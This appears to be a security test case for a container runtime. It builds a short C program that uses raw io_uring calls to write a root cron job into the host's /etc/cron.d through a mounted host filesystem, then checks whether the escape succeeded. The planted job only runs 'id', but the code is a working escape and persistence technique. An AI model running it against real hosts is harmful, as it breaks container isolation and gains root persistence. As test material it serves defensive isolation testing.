# about: the ring opens and writes a cron job of the host
# expect: container_escape critical
# where: container
# needs: docker
cat >a.c <<'C'
#define _GNU_SOURCE
#include <linux/io_uring.h>
#include <sys/syscall.h>
#include <sys/mman.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include <stdio.h>
static int ring; static struct io_uring_params p; static char *sq,*cq; static struct io_uring_sqe *sqes;
static int go(struct io_uring_sqe e){unsigned *tail=(void*)(sq+p.sq_off.tail),*mask=(void*)(sq+p.sq_off.ring_mask),*arr=(void*)(sq+p.sq_off.array);
 unsigned i=*tail&*mask; sqes[i]=e; arr[i]=i; __sync_synchronize(); (*tail)++; syscall(__NR_io_uring_enter,ring,1,1,IORING_ENTER_GETEVENTS,0,0);
 unsigned *head=(void*)(cq+p.cq_off.head),*cm=(void*)(cq+p.cq_off.ring_mask); struct io_uring_cqe *c=(void*)(cq+p.cq_off.cqes); int r=c[*head&*cm].res; (*head)++; return r;}
int main(){ring=syscall(__NR_io_uring_setup,8,&p);if(ring<0){perror("ring");return 1;}
 sq=mmap(0,p.sq_off.array+p.sq_entries*4,3,MAP_SHARED,ring,IORING_OFF_SQ_RING);cq=mmap(0,p.cq_off.cqes+p.cq_entries*16,3,MAP_SHARED,ring,IORING_OFF_CQ_RING);
 sqes=mmap(0,p.sq_entries*sizeof*sqes,3,MAP_SHARED,ring,IORING_OFF_SQES);
 struct io_uring_sqe e={0}; e.opcode=IORING_OP_OPENAT; e.fd=-100; e.addr=(unsigned long)"/host/etc/cron.d/ringed"; e.len=0644; e.open_flags=O_WRONLY|O_CREAT; int f=go(e);
 char*t="* * * * * root id\n"; memset(&e,0,sizeof e); e.opcode=IORING_OP_WRITE; e.fd=f; e.addr=(unsigned long)t; e.len=strlen(t); printf("%d %d\n",f,go(e));}
C
gcc -w -o a a.c
container -v /:/host -v "$PWD/a:/a" $RIGHTS -- /a
grep -q root /etc/cron.d/ringed
